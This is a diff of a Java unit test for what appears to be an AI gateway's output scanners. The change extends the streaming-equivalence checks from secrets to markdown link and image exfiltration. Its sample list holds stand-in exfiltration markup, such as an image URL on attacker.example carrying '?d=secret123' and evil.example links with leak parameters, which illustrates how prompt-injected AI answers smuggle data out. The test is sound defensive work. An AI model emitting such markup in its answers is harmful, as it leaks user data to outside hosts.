@@ -7,6 +7,7 @@ import dev.bastion.gateway.config.RouteSettings;
 import dev.bastion.gateway.metrics.GatewayMetrics;
 import dev.bastion.guard.Action;
 import dev.bastion.guard.Pseudonymizer;
+import dev.bastion.guard.exfiltration.ExfiltrationScanner;
 import dev.bastion.guard.secrets.SecretRule;
 import dev.bastion.guard.secrets.SecretsScanner;
 import java.util.ArrayList;
@@ -19,26 +20,53 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestFactory;
 
 /**
- * A streamed answer under the secrets output scanner, which releases text word by word, must come out exactly as
- * the whole answer scanned at once: for every rule's examples and counterexamples, inside prose, cut at every
- * point and sent one character at a time.
+ * A streamed answer under the output scanners that settle their own findings (secrets, exfiltration), which release
+ * text word by word, must come out exactly as the whole answer scanned at once: for every secret rule's examples and
+ * counterexamples and a set of markdown links and images, inside prose, cut at every point and sent one character
+ * at a time.
  */
-class SecretStreamingTest {
+class StreamedScanningTest {
     private static final int WINDOW = 256;
     private static final GatewayMetrics METRICS = new GatewayMetrics();
     private static final List<String> WRAPPERS = List.of("Here is the config you asked for:\n%s\nKeep it safe.",
             "Sure, use %s and restart the service.");
 
-    private static CompiledRoute route(Action action) {
+    private static CompiledRoute route(Action action, String... scanners) {
         Map<String, Action> actions = new java.util.HashMap<>();
         SecretsScanner.builtIn().types().forEach(t -> actions.put(t, action));
-        RouteSettings settings = new RouteSettings("r", List.of("*"), false, List.of(), List.of("secrets"), actions,
+        actions.put(ExfiltrationScanner.IMAGE, action);
+        actions.put(ExfiltrationScanner.LINK, action);
+        RouteSettings settings = new RouteSettings("r", List.of("*"), false, List.of(), List.of(scanners), actions,
                 action, Optional.empty(), List.of());
         return CompiledRoute.compile(settings, new GuardSettings(10, 1000, WINDOW));
     }
 
-    private static final CompiledRoute REDACT = route(Action.REDACT);
-    private static final CompiledRoute BLOCK = route(Action.BLOCK);
+    private static final CompiledRoute REDACT = route(Action.REDACT, "secrets");
+    private static final CompiledRoute BLOCK = route(Action.BLOCK, "secrets");
+    private static final CompiledRoute LINKS_REDACT = route(Action.REDACT, "secrets", "exfiltration");
+    private static final CompiledRoute LINKS_BLOCK = route(Action.BLOCK, "secrets", "exfiltration");
+
+    /** Markdown that a prompt-injected answer might carry, and near misses; written for this test. */
+    private static final List<String> MARKDOWN = List.of(
+            "![logo](https://attacker.example/p.png?d=secret123)",
+            "See [the docs](https://docs.example.com/guide#install) for more.",
+            "[click here](https://evil.example/?q=a \"a title\")",
+            "![a]( <https://x.example/i.png?x=1> \"t\")",
+            "[id]: https://evil.example/?leak=1",
+            "   [ref]: <https://evil.example/a?b=c>",
+            "Not a link [just brackets] and (parens).",
+            "[broken\n](https://evil.example/?q=1)",
+            "an image ![](//cdn.example/x.gif?u=1) inline",
+            "[relative](/path?q=1) and [mail](mailto:a@b.example?subject=x)",
+            "![x](https://e.example/?q=1\nsecond line)",
+            "token ghp_q8Lm2Rv7Xk4Zp9Tw3Nb6Wq7mZ2pLx9Gr4nLk then ![](https://e.example/?k=ghp)",
+            "[a](https://a.example/?1) [b](https://b.example/?2) ![c](https://c.example/3.png)");
+
+    @TestFactory
+    Stream<DynamicTest> markdownLinksStreamAsTheyScanWhole() {
+        return MARKDOWN.stream().map(sample -> DynamicTest.dynamicTest(sample, () -> assertStreamsAsWhole(
+                sample, "markdown", LINKS_REDACT, LINKS_BLOCK)));
+    }
 
     /** What the client receives: the released text, and "[blocked]" at the end if the stream was stopped. */
     private static String stream(CompiledRoute route, List<String> chunks) {
@@ -86,34 +114,38 @@ class SecretStreamingTest {
     Stream<DynamicTest> everyRuleStreamsAsItScansWhole() {
         return SecretsScanner.builtIn().rules().stream().map(rule -> DynamicTest.dynamicTest(rule.id(), () -> {
             for (String sample : samples(rule)) {
-                for (String wrapper : WRAPPERS) {
-                    String text = wrapper.formatted(sample);
-                    int at = wrapper.indexOf("%s");
-                    String expected = whole(REDACT, text);
-                    int firstSecret = 0; // where the redacted text first differs: the first secret
-                    while (firstSecret < Math.min(text.length(), expected.length())
-                            && text.charAt(firstSecret) == expected.charAt(firstSecret)) {
-                        firstSecret++;
-                    }
-                    boolean blocks = !whole(BLOCK, text).equals(text);
-                    for (List<String> chunks : chunkings(text, at, at + sample.length())) {
-                        String how = "rule " + rule.id() + (chunks.size() == 2 ? " cut " + chunks.getFirst().length()
-                                : " in " + chunks.size() + " chunks");
-                        assertThat(stream(REDACT, chunks)).as(how).isEqualTo(expected);
-                        String stopped = stream(BLOCK, chunks);
-                        if (blocks) {
-                            // text before the secret may have gone out; none of the secret did
-                            assertThat(stopped).as(how).endsWith("[blocked]");
-                            String sent = stopped.substring(0, stopped.length() - "[blocked]".length());
-                            assertThat(text).as(how).startsWith(sent);
-                            assertThat(sent.length()).as(how).isLessThanOrEqualTo(firstSecret);
-                        } else {
-                            assertThat(stopped).as(how).isEqualTo(text);
-                        }
-                    }
-                }
+                assertStreamsAsWhole(sample, "rule " + rule.id(), REDACT, BLOCK);
             }
         }));
+    }
+
+    private static void assertStreamsAsWhole(String sample, String what, CompiledRoute redact, CompiledRoute block) {
+        for (String wrapper : WRAPPERS) {
+            String text = wrapper.formatted(sample);
+            int at = wrapper.indexOf("%s");
+            String expected = whole(redact, text);
+            int firstSecret = 0; // where the redacted text first differs: the first secret
+            while (firstSecret < Math.min(text.length(), expected.length())
+                    && text.charAt(firstSecret) == expected.charAt(firstSecret)) {
+                firstSecret++;
+            }
+            boolean blocks = !whole(block, text).equals(text);
+            for (List<String> chunks : chunkings(text, at, at + sample.length())) {
+                String how = what + (chunks.size() == 2 ? " cut " + chunks.getFirst().length()
+                        : " in " + chunks.size() + " chunks");
+                assertThat(stream(redact, chunks)).as(how).isEqualTo(expected);
+                String stopped = stream(block, chunks);
+                if (blocks) {
+                    // text before the secret may have gone out; none of the secret did
+                    assertThat(stopped).as(how).endsWith("[blocked]");
+                    String sent = stopped.substring(0, stopped.length() - "[blocked]".length());
+                    assertThat(text).as(how).startsWith(sent);
+                    assertThat(sent.length()).as(how).isLessThanOrEqualTo(firstSecret);
+                } else {
+                    assertThat(stopped).as(how).isEqualTo(text);
+                }
+            }
+        }
     }
 
     private static List<String> samples(SecretRule rule) {
